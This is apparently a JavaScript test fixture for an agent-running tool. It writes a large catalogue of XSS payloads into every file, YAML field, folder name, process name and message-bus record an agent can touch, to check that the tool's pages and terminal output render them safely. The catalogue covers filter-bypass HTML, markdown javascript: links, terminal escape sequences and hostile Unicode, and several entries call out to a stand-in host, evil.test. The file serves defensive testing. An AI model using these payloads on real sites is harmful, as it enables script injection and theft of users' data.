/**
 * Texts that an agent may write to take over the page that shows them, and a root that holds them in every place
 * that an agent can write to. All that run call `pwned`; all that load ask for a host of `.test`, which is none.
 */

import fs from "node:fs";
import path from "node:path";
import { LONG } from "./sandbox.js";

const ELSEWHERE = "https://evil.test";

/** Markup, in all forms in which browsers have run it, and in the forms in which filters missed it. */
const MARKUP = [
  "<script>pwned(0)</script>",
  "<ScRiPt >pwned(0)</sCrIpT\t\n bar>",
  "<script src=https://evil.test/x.js></script>",
  '<script type="module">import "https://evil.test/m.js"</script>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.test/p"]}]}</script>',
  "<img src=x onerror=pwned(0)>",
  "<img src=`x`onerror=pwned(0)>",
  '<IMG """><SCRIPT>pwned(0)</SCRIPT>">',
  "<img/src/onerror=pwned(0)>",
  '<img src="https://evil.test/pixel.png">',
  '<img srcset="https://evil.test/a.png 1x" loading=eager>',
  "<picture><source srcset=https://evil.test/b.png><img></picture>",
  "<svg onload=pwned(0)>",
  "<svg/onload=pwned(0)//",
  "<svg><script>pwned&#40;0)</script></svg>",
  "<svg><animate onbegin=pwned(0) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwned(0)><text>go</text></a></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned(0)</script></svg>#x"/></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>parent.pwned(0)</script>'></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(0)&gt;'>",
  "<math href=javascript:pwned(0)>click</math>",
  "<iframe src=javascript:pwned(0)></iframe>",
  "<iframe srcdoc='&lt;script&gt;parent.pwned(0)&lt;/script&gt;'></iframe>",
  '<iframe src="https://evil.test/frame"></iframe>',
  "<object data=javascript:pwned(0)></object>",
  "<embed src=https://evil.test/e.swf>",
  "<video src=https://evil.test/v.mp4 onerror=pwned(0)><source onerror=pwned(0)></video>",
  "<audio src=x onerror=pwned(0) autoplay>",
  "<body onload=pwned(0)>",
  "<input autofocus onfocus=pwned(0)>",
  "<select autofocus onfocus=pwned(0)>",
  "<details open ontoggle=pwned(0)><summary>x</summary></details>",
  "<marquee onstart=pwned(0)>x</marquee>",
  "<div onpointerover=pwned(0) style='position:fixed;inset:0;z-index:9999'>over all</div>",
  "<div style=\"background:url(https://evil.test/bg.png)\">x</div>",
  "<style>@import 'https://evil.test/i.css'; body{display:none!important}</style>",
  "<style>*{animation:x 1s}@keyframes x{}</style><b onanimationstart=pwned(0)>",
  "<link rel=stylesheet href=https://evil.test/s.css>",
  "<link rel=preload as=script href=https://evil.test/l.js>",
  "<base href=https://evil.test/>",
  "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
  "<form action=https://evil.test><button>Answer</button></form>",
  "<button formaction=javascript:pwned(0) form=x>x</button>",
  "<a href=javascript:pwned(0)>x</a>",
  "<a href=' &#1; javascript:pwned(0)'>x</a>",
  "<a ping=https://evil.test/ping href=#>x</a>",
  "<template><script>pwned(0)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=pwned(0)></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwned(0)>'>",
  "<textarea></textarea><img src=x onerror=pwned(0)>",
  "<title></title><img src=x onerror=pwned(0)>",
  "<xmp><p title='</xmp><svg onload=pwned(0)>'>",
  "<!--><img src=x onerror=pwned(0)>-->",
  "<!--><script>pwned(0)</script>",
  "<![CDATA[<img src=x onerror=pwned(0)>]]>",
  "<?xml-stylesheet href='javascript:pwned(0)'?>",
  "</main></div></body><script>pwned(0)</script>",
  "'\"><svg/onload=pwned(0)>",
  "' onmouseover=pwned(0) x='",
  "\" autofocus onfocus=pwned(0) x=\"",
  "`${pwned(0)}` {{constructor.constructor('pwned(0)')()}} <%= pwned(0) %> #{pwned(0)}",
  "&lt;script&gt;pwned(0)&lt;/script&gt; &#60;img src=x onerror=pwned(0)&#62;",
  "\u003cscript\u003epwned(0)\u003c/script\u003e",
  "%3Cscript%3Epwned(0)%3C/script%3E",
  "+ADw-script+AD4-pwned(0)+ADw-/script+AD4-",
  "＜script＞pwned(0)＜/script＞",
  "<\u0000script>pwned(0)</script>",
  "<img src=x onerror\u000b=pwned(0)>",
  "<form id=document><input name=body><input name=cookie><img name=querySelector id=page>",
  "<a id=page></a><a id=field-token></a>",
];

/** Markdown that turns into markup where it is rendered without care. */
const MARKDOWN = [
  "[link](javascript:pwned(0))",
  "[link](JaVaScRiPt:pwned(0))",
  "[link](java\tscript:pwned(0))",
  "[link]( javascript:pwned(0))",
  "[link](<javascript:pwned(0)>)",
  "[link](&#106;avascript:pwned(0))",
  "[link](javascript&colon;pwned(0))",
  "[link](javascript://https://x%0apwned(0))",
  "[link](data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg==)",
  "[link](vbscript:pwned(0))",
  "[link](blob:https://evil.test/1)",
  "[link](//evil.test/protocol-less)",
  "[link](/api/v1/gc)",
  "[link](../../api/projects)",
  "[link](#/projects/x?token=stolen)",
  "[link](https://evil.test/\"onmouseover=\"pwned(0))",
  "[link](https://evil.test 'x' onmouseover='pwned(0)')",
  "[link][ref]\n\n[ref]: javascript:pwned(0)",
  "![image](https://evil.test/md.png)",
  "![image](javascript:pwned(0))",
  "![x](x\" onerror=\"pwned(0))",
  "[![both](https://evil.test/in.png)](javascript:pwned(0))",
  "<javascript:pwned(0)>",
  "<https://evil.test/auto><script>pwned(0)</script>",
  "https://evil.test/bare\"onclick=pwned(0)",
  "[text with <img src=x onerror=pwned(0)> in it](https://evil.test/t)",
  "# <img src=x onerror=pwned(0)> heading",
  "- <svg onload=pwned(0)> item",
  "> <iframe src=javascript:pwned(0)> quote",
  "| <img src=x onerror=pwned(0)> | b |\n| --- | --- |\n| <script>pwned(0)</script> | [x](javascript:pwned(0)) |",
  "```html\n<script>pwned(0)</script>\n```",
  "```\"><script>pwned(0)</script>\ncode\n```",
  "    <script>pwned(0)</script>",
  "`<script>pwned(0)</script>`",
  "**<img src=x onerror=pwned(0)>** _<svg onload=pwned(0)>_ ~~<script>pwned(0)</script>~~",
  "$$\\href{javascript:pwned(0)}{x}$$ :::{onclick=pwned(0)}",
  "[x]: <javascript:pwned(0)> \"onload\"",
  "<details open><summary>[x](javascript:pwned(0))</summary></details>",
];

/** What terminals do, and what letters do to those around them. */
const TERMINAL = [
  "\u001b]8;;javascript:pwned(0)\u0007link\u001b]8;;\u0007",
  "\u001b]8;;https://evil.test/osc\u001b\\link\u001b]8;;\u001b\\",
  "\u001b]0;a title\u0007\u001b]52;c;cHduZWQ=\u0007",
  "\u001b[31m<img src=x onerror=pwned(0)>\u001b[0m",
  "\u001b[38;2;1;2;3\"onmouseover=pwned(0) mhidden",
  "\u001b[2J\u001b[H\u001b[9999;9999Hoverwritten",
  "\u001b]1337;File=inline=1:PHN2ZyBvbmxvYWQ9cHduZWQoMCk+\u0007",
  "\u001bP+q544e\u001b\\ \u001b_Gf=100;AAAA\u001b\\ \u001bX<script>pwned(0)</script>\u001b\\",
  "\u001b[8mhidden\u001b[28m \u009b31mC1\u009bm \u009d8;;javascript:pwned(0)\u009cx",
  "\u0000\u0001\u0002\u0007\u0008\u007f control",
  "one\rtwo\r<img src=x onerror=pwned(0)>",
];
const LETTERS = [
  "\u202epmal eht nrut\u202c \u2066\u2067\u2069 \u200b\u200d\ufeff",
  `Z${"\u0300\u0301\u0302\u0303\u0310\u0316\u0317\u0323\u0489".repeat(30)}algo`,
  "\ufdfd".repeat(20) + "\u{12031}".repeat(20),
  "W".repeat(3000),
  "\ud800 lone \udc00 halves \uffff",
  "__proto__ constructor hasOwnProperty",
];

/** All of them, each with a name that tells where it was shown: `xss-17`. */
export const PAYLOADS = [...MARKUP, ...MARKDOWN, ...TERMINAL, ...LETTERS].map((text, at) => `xss-${at} ${text}`.replaceAll("pwned(0)", `pwned(${at})`).toWellFormed());
export const ON_ONE_LINE = PAYLOADS.map((text) => text.replace(/[\n\r\0\u0000]/g, " "));

/** The ids that are legal, and names of what all objects have. */
export const IDS = ["constructor", "hasOwnProperty", "toString", "valueOf", "a..b", "x.js", "X-".padEnd(127, "y")];

/** @param {string} text */
const yaml = (text) => JSON.stringify(text).replace(/[\x7f-\x9f\ufeff\ufffe\uffff\u2028\u2029]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`);

const RUN = "20261126-1200000000-77777-1";

/**
 * @param {import("./sandbox.js").Sandbox} sandbox
 * @param {import("./sandbox.js").Server} server
 */
export async function hostile(sandbox, server) {
  const one = (/** @type {number} */ at) => yaml(ON_ONE_LINE[at % ON_ONE_LINE.length] ?? "");
  for (const id of IDS) await server.start(id, id, ON_ONE_LINE[0] ?? "", { max_attempts: 1 });
  // What an agent can write where it works: everything below its task's folder.
  const task = path.join(sandbox.root, "evil", "task-20261126-120000-evil");
  const run = path.join(task, "runs", RUN);
  fs.mkdirSync(run, { recursive: true });
  fs.writeFileSync(path.join(task, "TASK.md"), PAYLOADS.join("\n\n"));
  fs.writeFileSync(path.join(task, "TASK-CONFIG.yaml"), `verify: ${one(5)}\nagent: ${one(12)}\n`);
  fs.writeFileSync(path.join(task, "CANCELLED"), `cancelled_at: 2026-11-26T12:00:00Z\nreason: ${one(5)}\n`);
  fs.writeFileSync(path.join(run, "prompt.md"), PAYLOADS.join("\n\n"));
  fs.writeFileSync(path.join(run, "output.md"), PAYLOADS.join("\n\n"));
  fs.writeFileSync(path.join(run, "agent-stdout.txt"), PAYLOADS.join("\n"));
  fs.writeFileSync(path.join(run, "agent-stderr.txt"), [...PAYLOADS].reverse().join("\n"));
  fs.writeFileSync(
    path.join(run, "run-info.yaml"),
    `version: 1\nrun_id: ${RUN}\nproject_id: evil\ntask_id: task-20261126-120000-evil\nagent: ${one(5)}\nprocess_ownership: managed\npid: 77777\npgid: 77777\n` +
      `start_time: 2026-11-26T12:00:00Z\nend_time: 2026-11-26T12:00:05Z\nexit_code: 1\nstatus: failed\noutcome: failed\ncwd: ${one(6)}\nprompt_path: ${run}/prompt.md\noutput_path: ${run}/output.md\n` +
      `stdout_path: ${run}/agent-stdout.txt\nstderr_path: ${run}/agent-stderr.txt\ncommandline: ${one(7)}\nerror_summary: ${one(12)}\nmodel: ${one(13)}\nagent_version: ${one(14)}\nstop_reason: ${one(15)}\n` +
      ON_ONE_LINE.map((text, at) => `unknown_${at}: ${yaml(text)}\n`).join(""),
  );
  // A bus as the older program wrote it, which knew no bounds: every field is text.
  const record = (/** @type {string} */ body, /** @type {number} */ at, /** @type {string} */ task) =>
    `---\nmsg_id: MSG-20261126-120000-${String(at).padStart(9, "0")}-PID00077-0001\nts: 2026-11-26T12:00:00.${String(at).padStart(9, "0")}Z\ntype: ${at % 3 === 0 ? one(at) : at % 3 === 1 ? "FACT" : "QUESTION"}\n` +
    `project_id: ${one(at)}\ntask_id: ${task || one(at)}\nrun_id: ${one(at + 1)}\nissue_id: ${one(at)}\nparents:\n  - msg_id: ${one(at)}\n    kind: ${one(at)}\nlinks:\n  - url: ${yaml((PAYLOADS[at] ?? "").replace(/^xss-\d+ /, ""))}\n    label: ${one(at)}\n    kind: ${one(at)}\n` +
    `  - url: "javascript:pwned(${at})"\n    label: "xss link"\nmeta:\n  ${yaml(`key ${at} <img src=x onerror=pwned(1)>`)}: ${one(at)}\n---\n${body}\n\n`;
  fs.writeFileSync(path.join(task, "TASK-MESSAGE-BUS.md"), PAYLOADS.map((text, at) => record(text, at, "task-20261126-120000-evil")).join(""));
  fs.writeFileSync(path.join(sandbox.root, "evil", "PROJECT-MESSAGE-BUS.md"), PAYLOADS.map((text, at) => record(text, at, "")).join(""));
  // Names that are no ids: the doctor tells of them.
  for (const [at, text] of ON_ONE_LINE.entries()) {
    const name = text.replaceAll("/", "\u2215").slice(0, 80);
    for (const folder of ["", "evil", "evil/task-20261126-120000-evil/runs"].slice(0, at < 20 ? 3 : 1)) fs.mkdirSync(path.join(sandbox.root, folder, name), { recursive: true });
  }
  // A task that lives: what it prints and what its processes are called.
  const words = ON_ONE_LINE.slice(0, 12).map((text) => `perl -e '$0 = shift; sleep 3600' "$(printf '%s' ${shell(text)})" &`).join("\n");
  await server.start("evil", "lives", `printf '%s\\n' ${PAYLOADS.map((text) => shell(text.replaceAll("\0", ""))).join(" ")}\nprintf '%s\\n' ${shell(PAYLOADS[5] ?? "")} >&2\n${words}\nrun-agent bus post --type QUESTION --body ${shell(PAYLOADS[5] ?? "")} --link ${shell("javascript:pwned(1)")} --meta ${shell("a=<img src=x onerror=pwned(2)>")} || true\nsleep 3600`);
  // It may have failed before the command left it alone, which then says so by its exit code.
  const checked = sandbox.cli("task", "--detach", "--project", "evil", "--task", "checked", "--agent", "shell", "--max-attempts", "1", "--env", "xss_env=1", "--verify", `echo ${shell(PAYLOADS[5] ?? "")}; false`, "--prompt", 'touch "$JRUN_TASK_FOLDER/DONE"');
  await checked.catch((error) => { if (error.code !== 1) throw error; });
  await server.stands("evil", "lives", "running", "question");
  await server.stands("evil", "checked", "failed");
  return { run: `projects/evil/tasks/task-20261126-120000-evil/runs/${RUN}`, task: "projects/evil/tasks/task-20261126-120000-evil", timeout: LONG };
}

/** A word that the shell takes as it is. @param {string} text */
function shell(text) {
  return `'${text.replaceAll("'", "'\\''")}'`;
}
